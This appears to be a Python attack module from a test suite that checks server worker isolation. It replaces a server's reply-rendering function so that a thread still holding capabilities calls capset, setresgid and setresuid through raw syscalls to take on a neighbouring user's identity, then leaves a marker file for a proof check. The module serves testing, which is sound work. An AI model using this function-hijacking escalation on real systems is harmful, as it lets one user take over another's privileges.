"""Have the worker itself, whose other thread may have kept capabilities, switch afterwards."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


OF_OURS = True


def attack(given: Given) -> object:
    import os
    import sys

    # The worker goes on in its own frames and with its own functions once the script has ended.
    # Whoever holds capabilities there, be it another thread, runs what is put in their place.
    drop, uid = given.drop, given.neighbour_uid

    def switch() -> None:
        import ctypes
        import platform
        import struct

        try:
            old, new = (126, 119, 117), (91, 149, 147)
            capset, setresgid, setresuid = old if platform.machine() == "x86_64" else new
            libc = ctypes.CDLL(None, use_errno=True)
            both = 1 << 6 | 1 << 7
            header = struct.pack("=Ii", 0x20080522, 0)
            libc.syscall(ctypes.c_long(capset), header, struct.pack("=6I", both, both, 0, 0, 0, 0))
            number = ctypes.c_uint(uid)
            if libc.syscall(ctypes.c_long(setresgid), number, number, number) == 0:
                libc.syscall(ctypes.c_long(setresuid), number, number, number)
            os.close(os.open(f"{drop}/taken", os.O_CREAT | os.O_WRONLY, 0o644))
        except Exception:
            return

    replies = sys.modules.get("servers.front.workers.replies")
    if replies is None:
        raise given.nothing("the server's modules are not in the script's process")
    real = replies.render

    def render(*arguments: object, **named: object) -> object:
        switch()
        return real(*arguments, **named)

    vars(replies)["render"] = render
    return "waiting"


def proof(scene: Scene) -> str | None:
    return scene.gained_identity()
